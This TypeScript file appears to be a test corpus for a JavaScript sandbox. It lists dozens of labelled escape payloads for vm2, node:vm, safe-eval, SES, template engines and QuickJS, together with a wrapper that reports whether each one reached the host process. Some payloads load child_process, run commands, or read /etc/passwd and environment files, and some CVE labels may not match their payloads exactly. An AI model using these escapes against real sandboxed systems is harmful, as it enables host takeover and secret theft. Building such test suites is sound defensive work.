/**
 * Published escapes from JavaScript sandboxes: vm2, node:vm, safe-eval, static-eval, notevil, SES, realms-shim, expression engines
 * and template engines, and some embedded engines. Each is the body of an async function with the parameters `input` and
 * `capabilities`, and returns the object that it obtained: `process`, `require`, or any object that leads there.
 */
export const ESCAPES: readonly (readonly [name: string, body: string])[] = [
  // node:vm, and everything that shares objects with its host
  ['node:vm: constructor of this', `return this.constructor.constructor('return process')()`],
  ['node:vm: constructor of globalThis', `return globalThis.constructor.constructor('return process')()`],
  ['node:vm: constructor of a function', `return (() => {}).constructor('return process')()`],
  ['node:vm: constructor of an argument', `return capabilities.constructor.constructor('return process')()`],
  ['node:vm: constructor of a granted function', `return capabilities.log.constructor('return process')()`],
  ['node:vm: constructor of console', `return console.log.constructor('return process')()`],
  ['node:vm: constructor of the input', `return input.constructor.constructor('return process')()`],
  [
    'node:vm: prototype of a granted function',
    `return Object.getPrototypeOf(capabilities.progress).constructor('return process')()`,
  ],
  ['node:vm: async function', `return await (async () => {}).constructor('return process')()`],
  ['node:vm: generator function', `return (function* () {}).constructor('return process')().next().value`],
  ['node:vm: async generator', `return (await (async function* () {}).constructor('return process')().next()).value`],
  [
    'node:vm: caller of a host function',
    `function f() { return f.caller && f.caller.constructor('return process')() } return f()`,
  ],
  [
    'node:vm: arguments.callee.caller',
    `return (function () { return arguments.callee.caller.constructor('return process')() })()`,
  ],
  ['node:vm: indirect eval', `return (0, eval)('process')`],
  ['node:vm: Function', `return Function('return process')()`],
  ['node:vm: new Function of this', `return new Function('return this.process')()`],
  ['node:vm: timers with text', `return setTimeout.constructor('return process')()`],
  [
    'node:vm: proxied toString',
    `return console.log(new Proxy({}, { get(t, k, r) { return () => r.constructor.constructor('return process')() } })) || process`,
  ],
  // vm2
  [
    'vm2 2016: Error.prepareStackTrace',
    `Error.prepareStackTrace = (e, frames) => frames; const [frame] = new Error().stack; return frame.getThis().constructor.constructor('return process')()`,
  ],
  [
    'vm2 CVE-2019-10761: stack overflow in the host',
    `const f = Buffer.prototype.write; const ft = { length: 10, utf8Write() {} }; const r = (i) => { let x = 0; try { x = r(i) } catch {} if (typeof x !== 'number') return x; if (x !== i) return x + 1; try { f.call(ft) } catch (e) { return e } return null }; for (let i = 1; ; i++) { try { r(i) } catch (e) { return e.constructor.constructor('return process')() } if (i > 50) return null }`,
  ],
  [
    'vm2: deep recursion into a granted function',
    `let caught; const dive = () => { try { console.log('x'); dive() } catch (e) { caught ??= e } }; dive(); return caught.constructor.constructor('return process')()`,
  ],
  [
    'vm2 issue 197: exception thrown by a getter',
    `try { capabilities.progress({ get percent() { throw null } }) } catch (e) { return e.constructor.constructor('return process')() }`,
  ],
  [
    'vm2 issue 225: Symbol.species',
    `class P extends Promise { static get [Symbol.species]() { return function (f) { f(() => {}, (e) => { globalThis.leak = e }) } } } new P((r, j) => j(new Error())).then(); return globalThis.leak && globalThis.leak.constructor.constructor('return process')()`,
  ],
  ['vm2 CVE-2021-23449: import()', `return (await import('fs')).constructor.constructor('return process')()`],
  [
    'vm2 CVE-2021-23449: rejection of import()',
    `let res = import('./foo.js'); try { await res } catch (e) { return e.constructor.constructor('return process')() }`,
  ],
  [
    'vm2 CVE-2021-23449: toString of an import',
    `const res = import('./foo.js'); res.toString.constructor('return this')().process && 1; return res.toString.constructor('return this')().process`,
  ],
  [
    'vm2 CVE-2022-25893: WeakMap.prototype.set',
    `const { set } = WeakMap.prototype; WeakMap.prototype.set = function (v) { return set.call(this, v, v) }; Error.prepareStackTrace = Error.prepareStackTrace = (_, c) => c.map((c) => c.getThis()).find((a) => a); const { stack } = new Error(); Error.prepareStackTrace = undefined; return stack.process`,
  ],
  [
    'vm2 CVE-2022-36067: globalThis.Error',
    `globalThis.OldError = globalThis.Error; globalThis.Error = {}; globalThis.Error.prepareStackTrace = (errStr, traces) => traces[0].getThis().process; const { stack } = new globalThis.OldError(''); return stack`,
  ],
  [
    'vm2 CVE-2023-29017: unhandled async error',
    `Error.prepareStackTrace = (e, frames) => { globalThis.got = frames.constructor.constructor('return process')() }; (async () => {}).constructor('return process')(); setTimeout(() => {}, 1); try { await aVM } catch {} return globalThis.got`,
  ],
  [
    'vm2 CVE-2023-29199: handler of a thrown proxy',
    `aVM2_INTERNAL_TMPNAME = {}; function stack() { new Error().stack; stack() } try { stack() } catch (a$tmpname) { return a$tmpname.constructor.constructor('return process')() }`,
  ],
  [
    'vm2 CVE-2023-30547: getPrototypeOf trap',
    `const err = {}; const handler = { getPrototypeOf(target) { (function stack() { new Error().stack; stack() })() } }; const proxied = new Proxy(err, handler); try { throw proxied } catch ({ constructor: c }) { return c.constructor('return process')() }`,
  ],
  [
    'vm2 CVE-2023-32313: inspect of a custom symbol',
    `const o = { [Symbol.for('nodejs.util.inspect.custom')](d, options, inspect) { globalThis.got = inspect.constructor('return process')() } }; console.log(o); return globalThis.got`,
  ],
  [
    'vm2 CVE-2023-32314: name of an error',
    `const err = new Error(); err.name = { toString: new Proxy(() => '', { apply(target, thiz, args) { const p = args.constructor.constructor('return process')(); throw p } }) }; try { err.stack } catch (p) { return p } return err.stack && null`,
  ],
  [
    'vm2 CVE-2023-37466: then of a promise',
    `async function fn() { (function stack() { new Error().stack; stack() })() } const p = fn(); p.constructor = { [Symbol.species]: class { constructor(executor) { executor((x) => x, (err) => { globalThis.got = err.constructor.constructor('return process')() }) } } }; p.then(); return globalThis.got`,
  ],
  [
    'vm2 CVE-2023-37903: custom inspect with a proxy',
    `const obj = { [Symbol.for('nodejs.util.inspect.custom')]: (depth, opt, inspect) => { inspect.constructor('return process')() } }; const w = globalThis.WebAssembly; return w.compileStreaming(obj).catch(() => {}) && w.constructor.constructor('return process')()`,
  ],
  [
    'vm2 2026: Promise.prototype.finally',
    `const f = Promise.prototype.finally; return await f.call(Promise.reject(1), () => {}).catch((e) => f.constructor('return process')())`,
  ],
  [
    'vm2: async stack of a host promise',
    `const p = capabilities.http ? capabilities.http.fetch('x') : Promise.reject(new Error('x')); try { await p } catch (e) { return e.constructor.constructor('return process')() }`,
  ],
  [
    'vm2: Function.prototype.call replaced',
    `let got; const { call } = Function.prototype; Function.prototype.call = function (...a) { got ??= a[0]; return call.apply(this, a) }; console.log('x'); Function.prototype.call = call; return got && got.constructor.constructor('return process')()`,
  ],
  [
    'vm2: Array.prototype.push replaced',
    `let got; Array.prototype.push = function (x) { got = x; return 0 }; console.log('x', {}); return got && got.constructor.constructor('return process')()`,
  ],
  [
    'vm2: Map.prototype.get replaced',
    `let got; Map.prototype.get = function () { got = this; return undefined }; setTimeout(() => {}, 0); await null; return got && got.constructor.constructor('return process')()`,
  ],
  [
    'vm2: Reflect.construct with a host target',
    `return Reflect.construct(Function, ['return process'], capabilities.log)()`,
  ],
  [
    'vm2: defineProperty on the input',
    `let got; Object.defineProperty(Object.prototype, 'then', { configurable: true, get() { got = this; return undefined } }); await input; delete Object.prototype.then; return got.constructor.constructor('return process')()`,
  ],
  // safe-eval, static-eval, notevil, jailed, sandbox
  ['safe-eval CVE-2017-16088', `return this.constructor.constructor('return process')()`],
  [
    'safe-eval CVE-2022-25904: __defineGetter__',
    `const o = {}; o.__defineGetter__('x', function () { return this.constructor.constructor('return process')() }); return o.x`,
  ],
  [
    'safe-eval CVE-2023-26121: __proto__ of console',
    `console.__proto__.__proto__ && 1; return console.__proto__.constructor.constructor('return process')()`,
  ],
  [
    'safe-eval CVE-2023-26122: import and catch',
    `return (async () => { try { await import('x') } catch (e) { return e.__proto__.constructor.constructor('return process')() } })()`,
  ],
  ['static-eval 2017: constructor of an array function', `return [].map.constructor('return process')()`],
  [
    'static-eval 2021: __proto__ in a key',
    `return ({ ['__proto__']: null })['__proto__'] === null ? Function('return process')() : 0`,
  ],
  [
    'notevil CVE-2021-23771: defineGetter',
    `const f = (function () {}); f.__defineGetter__('x', f.constructor('return process')); return f.x`,
  ],
  [
    'sandbox (npm): stdout postmortem',
    `return typeof postMessage === 'function' ? postMessage : Function('return postMessage')()`,
  ],
  ['jailed: importScripts', `return Function('return importScripts || require')()`],
  [
    'expr-eval CVE-2025-12735: function of a variable',
    `return input['constructor']['constructor']('return process')()`,
  ],
  ['mathjs 2017: cos.constructor', `return Math.cos.constructor('return process')()`],
  ['JSONPath CVE-2024-21534', `return [].constructor.constructor('return this.process')()`],
  // SES, realms-shim, Caja
  [
    'realms-shim 2019: caught TypeError',
    `try { null.x } catch (e) { return e.constructor.constructor('return process')() }`,
  ],
  [
    'realms-shim 2019: spread of a stack overflow',
    `let e; try { (function f() { [...f()] })() } catch (x) { e = x } return e.constructor.constructor('return process')()`,
  ],
  ['SES 2023-39532: import of a module by a string', `return await import('node:process')`],
  ['SES: import with data URL', `return await import('data:text/javascript,export default process')`],
  ['SES: import with file URL', `return await import('file:///proc/self/environ')`],
  ['SES: import.meta', `return (0, eval)('import.meta') `],
  // Template and expression engines
  ['AngularJS 1.0: constructor.constructor', `return (0, 'a'.constructor.constructor)('return process')()`],
  ['AngularJS 1.5: charAt is join', `'a'.constructor.prototype.charAt = [].join; return eval('x=1} } };process//') `],
  ['Handlebars 2019: lookup of constructor', `return (function () {}).constructor.apply(null, ['return process'])()`],
  [
    'Pug, EJS: escapeFunction',
    `const o = {}; o.__proto__.escapeFunction = '1;return process'; return new Function(({}).escapeFunction)()`,
  ],
  ['lodash.template CVE-2021-23337: sourceURL', `return Function('\\u2028\\u2029\\nreturn process')()`],
  [
    'Jinja-like walk of prototypes',
    `let o = capabilities.run; while (o) { const c = o.constructor; if (c && c.constructor) { const p = c.constructor('return typeof process === "object" ? process : null')(); if (p) return p } o = Object.getPrototypeOf(o) } return null`,
  ],
  [
    'prototype pollution of Object by JSON',
    `const o = JSON.parse('{"__proto__":{"polluted":1}}'); Object.assign({}, o); ({}).__proto__.shell = '/proc/self/exe'; return process`,
  ],
  // Embedded engines
  ['QuickJS std', `return std`],
  ['QuickJS os', `return (await import('os')).exec(['id'])`],
  ['QuickJS std module', `return (await import('std')).loadFile('/etc/passwd')`],
  ['QuickJS bjson', `return (await import('bjson')).read(new ArrayBuffer(8), 0, 8)`],
  ['QuickJS std.evalScript', `return globalThis.std?.evalScript('1') ?? scriptArgs`],
  ['emscripten Module', `return Module.FS ?? Module.asm`],
  ['Duktape.modLoaded', `return Duktape.modLoaded`],
  ['Java: Packages', `return java.lang.Runtime ?? Packages`],
  ['Worker', `return new Worker('data:text/javascript,1')`],
  ['WebAssembly with shared memory', `return new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true })`],
  [
    'SharedArrayBuffer of the host',
    `const b = new SharedArrayBuffer(8); return Atomics.wait(new Int32Array(b), 0, 0, 1) && process`,
  ],
  ['process.binding', `return process.binding('spawn_sync')`],
  ['process.mainModule', `return process.mainModule.require('child_process')`],
  ['global.process', `return global.process`],
  ['module.constructor._load', `return module.constructor._load('child_process')`],
  ['require', `return require('child_process')`],
  ['guest script: name of the host', `return host`],
  ['guest script: import of itself', `return await import('coresdk:guest')`],
  ['guest script: eval in its scope', `return console.log.constructor('return host')()`],
  [
    'guest script: stack of a timer',
    `return await new Promise((r) => setTimeout(function () { try { r(arguments.callee.caller.arguments[0].constructor.constructor('return process')()) } catch (e) { r(null) } }, 0))`,
  ],
];

/** Wraps a body. Reports the object that the body obtained, without using any string from the host. */
export function escapeModule(body: string): string {
  return `export default ${escapeFunction(body)}`;
}

/** Wraps a body as an expression, for engines without modules. */
export function escapeFunction(body: string): string {
  return `async function (input, capabilities) {
    const isOfHost = (x) => {
      try {
        if (x === null || x === undefined) return false;
        if (x.versions && x.versions.node) return true;
        if (typeof x.execSync === 'function' || typeof x.readFileSync === 'function') return true;
        if (typeof x === 'function' && (x.resolve || x.cache)) return true;
        return x.default ? isOfHost(x.default) : false;
      } catch { return false }
    };
    let got;
    try { got = await (async () => { ${body} })() } catch (e) { got = undefined }
    return isOfHost(got) ? 'ESCAPED' : 'contained';
  }`;
}
